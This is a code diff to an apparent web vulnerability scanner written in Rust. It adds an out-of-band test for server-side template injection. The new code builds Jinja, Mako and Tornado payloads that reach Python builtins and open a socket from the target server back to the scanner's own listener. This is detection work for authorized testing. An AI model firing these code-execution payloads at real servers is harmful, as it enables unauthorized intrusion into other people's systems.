@@ -1,4 +1,4 @@
-//! Server-side template injection: by the result of a computation that the template's engine makes.
+//! Server-side template injection: by the result of a computation that the template's engine makes, by a connection to us.
 //!
 //! Expressions are tried as text first, in the ways of many engines at once. Where the value stands inside of
 //! an expression or statement already, text shows nothing; that is tried only where what ends an expression
@@ -8,8 +8,10 @@ use vedette_protocol::finding::{Confidence, FindingType, ShownBy};
 
 use super::{Of, Test, canary, nothing_afterwards};
 use crate::web::{
+    call::{Call, Place},
+    input::Payload,
     response::Response,
-    trial::{Proof, Stop, Trial, Verdict},
+    trial::{Proof, Stop, Subject, Trial, Verdict},
 };
 
 pub(crate) const TEST: Test = Test {
@@ -28,7 +30,7 @@ fn judge(trial: &Trial<'_>) -> Verdict {
         // With other numbers, in the one way that it is.
         for (name, form) in *single {
             if computes(trial, form, 1)? {
-                return Ok(Some(proof(name)));
+                return Ok(Some(proof(ShownBy::ComputedOutput, name)));
             }
         }
     }
@@ -41,17 +43,50 @@ fn judge(trial: &Trial<'_>) -> Verdict {
     }
     for (name, form) in INSIDE {
         if computes(trial, form, 0)? && computes(trial, form, 1)? {
-            return Ok(Some(proof(name)));
+            return Ok(Some(proof(ShownBy::ComputedOutput, name)));
         }
     }
     Ok(None)
 }
 
-fn proof(detail: &'static str) -> Proof {
+/// For what is rendered and never shown to who asked.
+pub(super) fn calls(subject: &Subject) -> Vec<Call> {
+    let call = |(name, spell): &(&'static str, Wrap)| {
+        let (spell, value, left_alone) = (*spell, subject.value.clone(), subject.value.clone());
+        Call::new(
+            proof(ShownBy::Callback, name),
+            move |place| Payload::Value(format!("{value}{}", spell(&connect(place)))),
+            move |place| Payload::Value(format!("{left_alone}{}", connect(place))),
+        )
+    };
+    CALLERS.iter().map(call).collect()
+}
+
+/// An expression of Python that connects, behind what an engine calls its own functions.
+fn connect(place: Place) -> String {
+    format!(
+        "__import__(\"socket\").create_connection((\"{}\",{}),2)",
+        place.address(),
+        place.sum()
+    )
+}
+
+/// An expression as a template has it.
+type Wrap = fn(&str) -> String;
+
+/// Engines that lead to a socket without a program of the system's. What one of two evaluates, the other takes for text.
+const CALLERS: &[(&str, Wrap)] = &[
+    ("Jinja or Mako", |connect| {
+        format!("{{{{lipsum.__globals__.__builtins__.{connect}}}}}${{{connect}}}")
+    }),
+    ("Tornado", |connect| format!("{{{{{connect}}}}}")),
+];
+
+fn proof(shown_by: ShownBy, detail: &'static str) -> Proof {
     Proof {
         type_: FindingType::WebTemplateInjection,
         confidence: Confidence::Certain,
-        shown_by: ShownBy::ComputedOutput,
+        shown_by,
         detail,
     }
 }
